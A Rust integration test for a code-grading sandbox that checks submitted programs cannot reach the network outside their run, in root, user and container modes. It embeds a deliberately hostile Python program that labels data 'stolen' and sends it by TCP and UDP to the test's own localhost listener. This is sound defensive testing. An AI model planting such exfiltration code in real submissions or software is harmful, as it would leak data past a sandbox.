//! The network in every mode (`modes::network_…::<mode>`). With namespaces a run has a
//! network of its own; where they are refused (the container mode) it shares the host's,
//! held to its exercise's TCP ports by Landlock and a socket filter.
//!
//! - `network_contained`: a hostile `process.py`, made here, prints its ids and then tries
//!   to reach the test's TCP listener and UDP socket on 127.0.0.1, outside its run, and
//!   exits 0. Run directly by the test it reaches both (so the program does try); graded, it
//!   reaches neither, and its verdicts are those of a correct program.
//! - `socket_exercises`: `fixtures/good-python` on the exercises that use sockets gets the
//!   verdicts its `fixture.toml` states.

use super::{per_mode, tail, verdicts, Mode, Place};
use crate::fixtures;
use crate::support::{self, Outcome};
use libtest_mimic::{Failed, Trial};
use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::path::Path;
use std::process::Command;
use std::time::Duration;

/// One exercise (or three), a handful of runs.
const LIMIT: Duration = Duration::from_secs(600);
/// The exercises that bind or connect.
const SOCKET_EXERCISES: [&str; 3] = ["echo_server", "echo_client", "time_server"];

pub fn trials() -> Vec<Trial> {
    let mut trials = per_mode("modes::network_contained", contained);
    trials.extend(per_mode("modes::socket_exercises", socket_exercises));
    trials
}

/// The hostile program: correct on `process`, then it sends what it read to the ports named
/// in `net-target.txt` beside it. Reading that file is not guarded: a program that could not
/// would exit 1 and fail `process.exit`.
const HOSTILE: &str = r#"#!/usr/bin/env python3
# hostile (made by modes::network_contained): prints its ids, then tries to reach a TCP
# listener and a UDP socket on 127.0.0.1 outside its run, and exits 0 either way.
import os
import socket

print(f"Process id is {os.getpid()}")
print(f"User id is {os.getuid()}")
print(f"Group id is {os.getgid()}")
here = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(here, "net-target.txt")) as f:
    tcp, udp = (int(p) for p in f.read().split())
loot = b"stolen: " + open(__file__, "rb").read(64)
try:
    with socket.create_connection(("127.0.0.1", tcp), timeout=5) as s:
        s.sendall(loot)
except OSError:
    pass
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(loot, ("127.0.0.1", udp))
    u.close()
except OSError:
    pass
"#;

/// The test's listener and UDP socket, outside every run.
struct Target {
    tcp: TcpListener,
    udp: UdpSocket,
}

impl Target {
    fn new() -> std::io::Result<Target> {
        let tcp = TcpListener::bind("127.0.0.1:0")?;
        let udp = UdpSocket::bind("127.0.0.1:0")?;
        tcp.set_nonblocking(true)?;
        udp.set_nonblocking(true)?;
        Ok(Target { tcp, udp })
    }

    fn ports(&self) -> std::io::Result<String> {
        Ok(format!(
            "{} {}\n",
            self.tcp.local_addr()?.port(),
            self.udp.local_addr()?.port()
        ))
    }

    /// What reached it so far, drained: each accepted connection's first bytes (read
    /// briefly) and each datagram. Called once the sender has ended, so what it sent is
    /// already queued: nonblocking reads see it all.
    fn drain(&self) -> Vec<String> {
        let mut reached = Vec::new();
        while let Ok((mut conn, peer)) = self.tcp.accept() {
            let _ = conn.set_nonblocking(false);
            let _ = conn.set_read_timeout(Some(Duration::from_secs(2)));
            let mut head = [0u8; 64];
            let n = conn.read(&mut head).unwrap_or(0);
            reached.push(format!(
                "TCP from {peer}: {:?}",
                String::from_utf8_lossy(&head[..n])
            ));
        }
        let mut buf = [0u8; 256];
        while let Ok((n, peer)) = self.udp.recv_from(&mut buf) {
            reached.push(format!(
                "UDP from {peer}: {:?}",
                String::from_utf8_lossy(&buf[..n])
            ));
        }
        reached
    }
}

/// The hostile program graded on `process` in `mode`, after a direct run showed it reaches
/// the target.
fn contained(mode: Mode) -> Outcome {
    let place = Place::new(mode)?;
    let target = Target::new()?;
    let dir = place.copy(
        &support::root().join("fixtures/good-python"),
        "hostile-network",
    )?;
    keep_only(&dir, &["process.py"])?;
    std::fs::write(dir.join("process.py"), HOSTILE)?;
    std::fs::write(dir.join("net-target.txt"), target.ports()?)?;
    let control = Command::new("/usr/bin/python3")
        .arg(dir.join("process.py"))
        .current_dir(&dir)
        .output()?;
    let reached = target.drain();
    if !control.status.success() || reached.len() != 2 {
        return Err(format!(
            "run directly, the hostile program should reach the TCP listener and the UDP socket; it reached {reached:?} ({}; {})",
            control.status,
            String::from_utf8_lossy(&control.stderr)
        )
        .into());
    }
    let mut cmd = place.sysgrade();
    cmd.args([
        "grade",
        "--quiet",
        "--exercise",
        "process",
        "--format",
        "json",
    ])
    .arg(&dir);
    let ran = place.run(cmd, LIMIT)?;
    let mut wrong: Vec<String> = ran.exited_normally(mode).err().into_iter().collect();
    let reached = target.drain();
    if !reached.is_empty() {
        wrong.push(format!("a graded program reached the test: {reached:?}"));
    }
    match ran.json(mode, &ran.stdout) {
        Ok(report) => wrong.extend(report.iter().flat_map(|r| not_passed(r, 3))),
        Err(e) => wrong.push(e),
    }
    verdict(mode, wrong, &ran.stderr)
}

/// Removes every file of `dir` but `keep`.
fn keep_only(dir: &Path, keep: &[&str]) -> std::io::Result<()> {
    for entry in std::fs::read_dir(dir)? {
        let entry = entry?;
        if !keep.iter().any(|k| entry.file_name() == *k) {
            let path = entry.path();
            if path.is_dir() {
                std::fs::remove_dir_all(path)?;
            } else {
                std::fs::remove_file(path)?;
            }
        }
    }
    Ok(())
}

/// Every scenario of the report that did not pass, and a complaint when there are fewer
/// than `at_least` of them (a report of nothing passes nothing).
fn not_passed(report: &serde_json::Value, at_least: usize) -> Vec<String> {
    let empty = Vec::new();
    let scenarios: Vec<&serde_json::Value> = report["exercises"]
        .as_array()
        .unwrap_or(&empty)
        .iter()
        .flat_map(|e| e["scenarios"].as_array().unwrap_or(&empty))
        .collect();
    let mut wrong: Vec<String> = scenarios
        .iter()
        .filter(|s| s["status"] != "pass")
        .map(|s| format!("{}: {} ({})", s["id"], s["status"], s["feedback"]))
        .collect();
    if scenarios.len() < at_least {
        wrong.push(format!(
            "{} scenario(s) judged, expected at least {at_least}",
            scenarios.len()
        ));
    }
    wrong
}

/// `fixtures/good-python` on the socket exercises only.
fn socket_exercises(mode: Mode) -> Outcome {
    let place = Place::new(mode)?;
    let fixture = support::root().join("fixtures/good-python");
    let mut expect = fixtures::read(&fixture)?;
    expect
        .exercises
        .retain(|e| SOCKET_EXERCISES.contains(&e.as_str()));
    if expect.exercises.len() != SOCKET_EXERCISES.len() {
        return Err(format!("good-python lists {:?}", expect.exercises).into());
    }
    let dir = place.copy(&fixture, "good-python")?;
    let mut cmd = place.sysgrade();
    cmd.args(["grade", "--quiet", "--format", "json"]);
    for exercise in SOCKET_EXERCISES {
        cmd.args(["--exercise", exercise]);
    }
    cmd.arg(&dir);
    let ran = place.run(cmd, LIMIT)?;
    let mut wrong: Vec<String> = ran.exited_normally(mode).err().into_iter().collect();
    match ran.json(mode, &ran.stdout) {
        Ok(report) => {
            for one in &report {
                wrong.extend(verdicts::mismatches("good-python", &expect, one, mode));
                wrong.extend(header(one, mode));
            }
        }
        Err(e) => wrong.push(e),
    }
    verdict(mode, wrong, &ran.stderr)
}

/// The report's account of the network: a namespace with namespaces, TCP ports in the
/// container mode where the kernel's Landlock has TCP rules (ABI 4+).
fn header(report: &serde_json::Value, mode: Mode) -> Option<String> {
    use harness::sandbox::landlock;
    let held = report["guarantees"]["network"]["held"]
        .as_str()
        .unwrap_or("?");
    let want = match mode {
        Mode::Root | Mode::User => "private_namespace",
        Mode::Container if landlock::holds_tcp_ports(landlock::abi()) => "tcp_ports",
        Mode::Container => "not_contained",
    };
    (held != want).then(|| format!("guarantees.network.held: {held}, expected {want}"))
}

fn verdict(mode: Mode, wrong: Vec<String>, stderr: &str) -> Outcome {
    if wrong.is_empty() {
        Ok(())
    } else {
        Err(Failed::from(format!(
            "{} mode:\n{}\nstderr:\n{}",
            mode.name(),
            wrong.join("\n"),
            tail(stderr, 2000)
        )))
    }
}
